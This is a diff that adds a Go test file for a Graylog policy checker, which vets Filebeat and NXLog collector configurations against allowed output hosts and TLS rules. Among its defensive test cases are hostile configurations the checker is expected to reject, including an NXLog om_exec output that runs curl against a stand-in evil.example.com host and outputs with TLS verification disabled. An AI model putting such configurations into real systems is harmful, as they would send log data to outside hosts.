@@ -0,0 +1,128 @@
+// Copyright (C) 2020 Graylog, Inc.
+//
+// This program is free software: you can redistribute it and/or modify
+// it under the terms of the Server Side Public License, version 1,
+// as published by MongoDB, Inc.
+//
+// This program is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE. See the
+// Server Side Public License for more details.
+//
+// You should have received a copy of the Server Side Public License
+// along with this program. If not, see
+// <http://www.mongodb.com/licensing/server-side-public-license>.
+
+package policy
+
+import (
+	"os"
+	"path/filepath"
+	"reflect"
+	"sort"
+	"testing"
+)
+
+const policyFile = `
+rules:
+  - collectors: ["filebeat*"]
+    deny_patterns: ['verification_mode:\s*none']
+    allowed_output_hosts: ["graylog.example.org", "10.0.0.*:5044"]
+  - collectors: ["nxlog"]
+    require_patterns: ['om_ssl']
+    allowed_output_hosts: ["graylog.example.org"]
+`
+
+func loadTestPolicy(t *testing.T) *Policy {
+	path := filepath.Join(t.TempDir(), "policy.yml")
+	if err := os.WriteFile(path, []byte(policyFile), 0600); err != nil {
+		t.Fatal(err)
+	}
+	policy, err := Load(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return policy
+}
+
+func TestPolicyCheck(t *testing.T) {
+	policy := loadTestPolicy(t)
+
+	cases := []struct {
+		collector string
+		template  string
+		compliant bool
+	}{
+		{"filebeat", "output.logstash:\n  hosts: [\"graylog.example.org:5044\"]\n", true},
+		{"filebeat", "output:\n  logstash:\n    hosts:\n      - 10.0.0.1:5044\n", true},
+		{"filebeat", "output.logstash:\n  hosts: [\"evil.example.com:5044\"]\n", false},
+		{"filebeat", "output.elasticsearch.hosts: [\"https://graylog.example.org:9200/path\"]\n", true},
+		{"filebeat", "output.logstash:\n  hosts: [\"graylog.example.org\"]\n  ssl.verification_mode: none\n", false},
+		{"filebeat", "output.logstash: [\n", false},
+		{"nxlog", "<Output gelf>\n  Module om_ssl\n  Host graylog.example.org\n</Output>\n", true},
+		{"nxlog", "<Output gelf>\n  Module om_tcp\n  Host graylog.example.org\n</Output>\n", false},
+		{"nxlog", "<Output gelf>\n  Module om_ssl\n  Host 192.168.1.1\n</Output>\n", false},
+		{"winlogbeat", "output.logstash:\n  hosts: [\"evil.example.com:5044\"]\n", true},
+		// destinations which can't be determined are rejected
+		{"filebeat", "cloud.id: \"evil:ZXZpbC5leGFtcGxlLmNvbQ==\"\noutput.elasticsearch:\n  hosts: [\"graylog.example.org\"]\n", false},
+		{"filebeat", "cloud:\n  id: \"evil:ZXZpbC5leGFtcGxlLmNvbQ==\"\n", false},
+		{"filebeat", "output.file:\n  path: /tmp/filebeat\n", false},
+		{"filebeat", "output.elasticsearch:\n  username: elastic\n", false},
+		{"filebeat", "filebeat.inputs: []\n", false},
+		{"nxlog", "<Output exec>\n  Module om_exec\n  Command /usr/bin/curl\n  Arg https://evil.example.com\n</Output>\n# om_ssl\n", false},
+		{"nxlog", "include /etc/nxlog/outputs.conf\n<Output gelf>\n  Module om_ssl\n  Host graylog.example.org\n</Output>\n", false},
+		{"nxlog", "<Input in>\n  Module im_file\n</Input>\n# om_ssl\n", false},
+		{"nxlog", "<Output gelf>\n  Module om_ssl\n</Output>\n", false},
+	}
+	for i, c := range cases {
+		err := policy.Check(c.collector, c.template)
+		if c.compliant && err != nil {
+			t.Errorf("case %d: expected compliant configuration, got %v", i, err)
+		}
+		if !c.compliant && err == nil {
+			t.Errorf("case %d: expected configuration to be rejected", i)
+		}
+	}
+}
+
+func TestEmptyPolicy(t *testing.T) {
+	policy, err := Load("")
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := policy.Check("filebeat", "output.logstash: [\n"); err != nil {
+		t.Fatalf("empty policy should accept every configuration: %v", err)
+	}
+}
+
+func TestLoadInvalidPattern(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "policy.yml")
+	if err := os.WriteFile(path, []byte("rules:\n  - deny_patterns: ['(']\n"), 0600); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := Load(path); err == nil {
+		t.Fatal("expected invalid pattern to be rejected")
+	}
+}
+
+func TestBeatsOutputHosts(t *testing.T) {
+	template := `
+filebeat.inputs:
+  - type: log
+    hosts: ["ignored"]
+output.logstash:
+  hosts: ["a:5044", "b:5044"]
+output:
+  kafka:
+    hosts: c:9092
+`
+	hosts, err := OutputHosts("filebeat", template)
+	if err != nil {
+		t.Fatal(err)
+	}
+	sort.Strings(hosts)
+	expected := []string{"a:5044", "b:5044", "c:9092"}
+	if !reflect.DeepEqual(hosts, expected) {
+		t.Fatalf("expected %v, got %v", expected, hosts)
+	}
+}